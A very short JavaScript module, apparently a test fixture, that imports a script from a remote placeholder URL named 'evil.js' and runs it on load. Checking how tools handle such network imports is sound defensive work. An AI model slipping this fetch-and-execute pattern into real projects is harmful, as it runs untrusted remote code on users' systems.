// Code from the network, fetched while loading.
import evil from "https://example.com/evil.js";

export default function () {
	evil();
}
